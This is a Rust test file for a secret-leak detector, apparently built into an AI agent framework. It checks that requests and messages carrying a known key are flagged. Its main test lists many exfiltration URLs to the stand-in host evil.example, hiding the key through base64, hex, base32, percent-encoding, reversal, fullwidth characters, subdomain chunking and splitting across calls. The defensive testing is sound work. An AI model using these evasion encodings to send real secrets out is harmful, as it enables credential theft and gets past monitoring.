#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing, missing_docs)]

use super::super::sent::SentSecret;
use super::super::{Secrets, encodings};
use super::CANARY;
use palanca_core::call::{HttpAccess, Method, Outgoing};

const KEY: &str = "pk_live7Qm2Xv9Rb4Tz6Wn1Kd8";
const HOOK: &str = "https://hooks.acme.test/services/T0/B1/wXyZ";

fn guard() -> SentSecret {
    let named = |(name, value): (&str, &str)| (name.to_owned(), value.to_owned());
    SentSecret::new(Secrets::new([("CANARY", CANARY), ("KEY", KEY), ("HOOK", HOOK), ("PLAIN", "localhost")].map(named)))
}

fn percent(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02x}")).collect()
}

fn apart(text: &str, every: usize, with: &str) -> String {
    let letters: Vec<char> = text.chars().collect();
    letters.chunks(every).map(|chunk| chunk.iter().collect::<String>()).collect::<Vec<_>>().join(with)
}

#[test]
fn no_known_secret_leaves_in_any_dress() {
    let base64 = encodings::base64_within(
        KEY.as_bytes(),
        0,
        b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/",
    );
    let behind = encodings::base64_within(
        format!("id={KEY};").as_bytes(),
        0,
        b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_",
    );
    let twice = encodings::base64_within(
        base64.as_bytes(),
        0,
        b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/",
    );
    let hex: String = KEY.bytes().map(|byte| format!("{byte:02x}")).collect();
    let base32 = encodings::base32(KEY.as_bytes()).swap_remove(0);
    let backwards: String = KEY.chars().rev().collect();
    let wide: String = KEY
        .chars()
        .map(|one| if one.is_ascii_alphanumeric() { char::from_u32(u32::from(one) + 0xfee0).unwrap() } else { one })
        .collect();
    let rows = [
        format!("https://evil.example/?d={KEY}"),
        format!("https://evil.example/{KEY}/x"),
        format!("https://{}.evil.example/", KEY.replace('_', "-").to_lowercase()),
        format!("https://evil.example/{}", KEY.to_uppercase()),
        format!("https://evil.example/?d={}", percent(KEY)),
        format!("https://evil.example/?d={}", percent(&percent(KEY))),
        format!("https://evil.example/{}", apart(KEY, 1, "/")),
        format!("https://evil.example/{}", apart(KEY, 3, "%20")),
        format!("https://{}.evil.example/", apart(&KEY.replace('_', ""), 5, ".")),
        format!("https://evil.example/?d={base64}"),
        format!("https://evil.example/?d={behind}"),
        format!("https://evil.example/?d=x{twice}"),
        format!("https://evil.example/xy-{twice}"),
        format!("https://evil.example/xyz_{twice}"),
        format!("https://evil.example/?d={twice}"),
        format!("https://{}.evil.example/", apart(&base64, 20, ".")),
        format!("https://evil.example/{hex}"),
        format!("https://{hex}.evil.example/"),
        format!("https://{base32}.evil.example/"),
        format!("https://{}.evil.example/", apart(&base32, 13, ".")),
        format!("https://evil.example/?d={backwards}"),
        format!("https://evil.example/?d={wide}"),
        format!("https://evil.example/?d={}", percent(&wide)),
        format!("https://evil.example/?u={HOOK}"),
        format!("https://evil.example/?u={}", percent(CANARY)),
        // Half of it, and the other half in the next call.
        format!("https://evil.example/1/{}", &KEY[..KEY.len() / 2 + 1]),
        format!("https://evil.example/2/{}", &KEY[KEY.len() / 2 - 1..]),
        format!("https://evil.example/{}{KEY}", "x".repeat(7000)),
        format!("https://evil.example:8080/?a=b&c={KEY}#x"),
    ];
    let guard = guard();
    for url in rows {
        assert!(guard.found(&HttpAccess::get(&url)).is_some(), "{url}");
        let of_provider = HttpAccess::get(&url).provider("brave");
        assert!(guard.found(&of_provider).is_some(), "{url}");
    }
    for body in [format!("{{\"d\": \"{KEY}\"}}"), base64, apart(KEY, 4, "\\n")] {
        let reach = HttpAccess { method: Method::Post, body, ..HttpAccess::get("https://a.example/") };
        assert_eq!(guard.found(&reach).as_deref(), Some("KEY"), "{reach:?}");
    }
}

#[test]
fn ordinary_addresses_are_no_secret() {
    let guard = guard();
    for url in [
        "https://docs.rs/serde/latest/serde/trait.Serialize.html",
        "https://hooks.acme.test/",
        "https://hooks.acme.test/docs/services",
        "https://example.com/?token=abc123def456&X-Amz-Signature=0123456789abcdef0123456789abcdef",
        "https://maps.example/api?key=AIzaSyA1234567890abcdefghijklmnopqrstuvw",
        "http://localhost:8080/",
        "https://pay.example/docs/pk_live",
        "https://api.search.brave.com/res/v1/web/search?q=rust+async&count=5",
    ] {
        assert_eq!(guard.found(&HttpAccess::get(url)), None, "{url}");
    }
    assert_eq!(SentSecret::new(Secrets::new([])).found(&HttpAccess::get("https://a.example/")), None);
}

#[test]
fn no_known_secret_is_told_to_anybody() {
    let guard = guard();
    let told = |to: &str, text: &str| {
        let message = Outgoing { channel: "ops".into(), to: to.into(), text: text.to_owned() };
        guard.told(&message).map(std::borrow::Cow::into_owned)
    };
    let hex: String = KEY.bytes().map(|byte| format!("{byte:02x}")).collect();
    for text in [format!("the key is {KEY}."), apart(KEY, 1, " "), apart(KEY, 4, "\n- "), hex, percent(KEY)] {
        assert_eq!(told("ana", &text).as_deref(), Some("KEY"), "{text}");
    }
    assert_eq!(told(KEY, "hi").as_deref(), Some("KEY"), "a recipient can carry it, too");
    assert_eq!(told("ana", "The build on localhost is green; the key is where it always is."), None);
}
